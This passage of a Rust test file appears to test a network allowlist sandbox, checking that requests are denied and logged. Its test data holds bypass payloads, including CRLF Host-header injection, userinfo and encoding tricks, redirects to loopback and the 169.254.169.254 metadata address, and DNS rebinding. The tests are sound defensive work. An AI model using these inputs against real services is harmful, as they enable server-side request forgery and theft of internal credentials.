    assert_eq!(range.internet.log(), Vec::<Value>::new());
    assert_eq!(range.reaches(&["http://origin.test/"]), [[true; 2]]);
}

#[test]
fn b23_only_true_matches_pass_and_the_log_says_why() {
    let range = Range::new("allow = [\"ok.test\", \"*.ok.test\"]", "");
    for name in [
        "ok.test",
        "a.ok.test",
        "evil.test",
        "evilok.test",
        "ok.test.evil.test",
    ] {
        range.internet.zone(name, &[ORIGIN]);
    }
    let others = [
        ("evilok.test", "evilok.test"),
        ("ok.test.evil.test", "ok.test.evil.test"),
        ("evil.test", "ok.test"),
        ("ok.test", "evil.test"),
        ("ok.test", "ok.test\\r\\nHost: evil.test"),
        ("ok.test", "evil.test\\r\\nHost: ok.test"),
        ("user@ok.test", "ok.test"),
        ("%6fk.test", "ok.test"),
        ("evil.test\\x00.ok.test", "ok.test"),
        ("ok.test:22", "ok.test:22"),
        ("0x5db8d822", "ok.test"),
        ("[::ffff:93.184.216.34]", "ok.test"),
    ];
    each(&range.asked_as(&others), &["400", "403"]);
    assert_eq!(range.connections(), Vec::<Value>::new());
    let decided = range.records("network_decided");
    for host in ["evilok.test", "ok.test.evil.test", "ok.test:22"] {
        let named = decided.iter().find(|record| {
            let destination = record["destination"].as_str().unwrap_or_default();
            destination.starts_with(host)
        });
        let record = named.unwrap_or_else(|| panic!("{host} is not in {decided:?}"));
        assert_eq!(record["code"], "not-allowed", "{record}");
    }
    each(
        &range.asked(&["OK.TEST.", "ok.test", "A.ok.test"]),
        &["page"],
    );
}

#[test]
fn b25_a_redirect_or_a_name_never_leads_to_the_machine_or_its_metadata() {
    let range = Range::new("allow = [\"origin.test\", \"*.rebind.test\"]", "");
    let server = Server::start(&range);
    let addresses = [
        "127.0.0.1",
        "169.254.169.254",
        "::1",
        "::ffff:127.0.0.1",
        "0.0.0.0",
    ];
    let mut script = String::new();
    for (number, address) in addresses.iter().enumerate() {
        let name = format!("n{number}.rebind.test");
        range.internet.zone(&name, &[address]);
        let literal = match address.contains(':') {
            true => format!("[{address}]"),
            false => (*address).to_owned(),
        };
        for target in [name, literal, format!("n{number}.rebind.test:8099")] {
            script += &format!(
                "curl -sSgL --max-time 20 'http://origin.test/redirect?to=http://{target}/latest'\n"
            );
        }
    }
    let flip: [&[&str]; 2] = [&[ORIGIN], &["127.0.0.1"]];
    range.internet.zone_sequence("flip.rebind.test", &flip);
    script += "for i in 1 2 3 4; do curl -sS --max-time 20 -o /dev/null http://flip.rebind.test/; sleep 0.4; done\n";
    let finished = range.sh(&script);
    assert!(!finished.stdout.contains("origin /latest"), "{finished:?}");
    assert!(!server.was_reached());
    let seen = range.connections();
    assert!(seen.iter().all(|one| one["address"] == ORIGIN), "{seen:?}");
    let script =
        "curl -sSL --max-time 20 'http://origin.test/redirect?to=http://origin.test/there'";
    assert_eq!(range.sh(script).ok(), "origin /there");
}

#[test]
fn b26_nothing_named_is_nothing_reached() {
    let range = Range::new("allow = []", "");
    let server = Server::start(&range);
    let machine = format!("http://{MACHINE}:8099/");
    let urls = [
        machine.as_str(),
        "http://localhost:8099/",
        "http://origin.test/",
    ];
    assert_eq!(range.reaches(&urls), [[false; 2]; 3]);
    range.world.policy("");
    assert_eq!(range.reaches(&urls), [[false; 2]; 3]);
    assert_eq!(range.internet.log(), Vec::<Value>::new());
    // Even where everything that is not named is let through to be learned.
    range.policy("", "");
    let expected = [[false; 2], [false; 2], [true; 2]];
    let learn = ["learn", "--output", "learned.toml"];
    assert_eq!(range.reaches_with(&learn, &urls), expected);
    assert!(!server.was_reached());
}
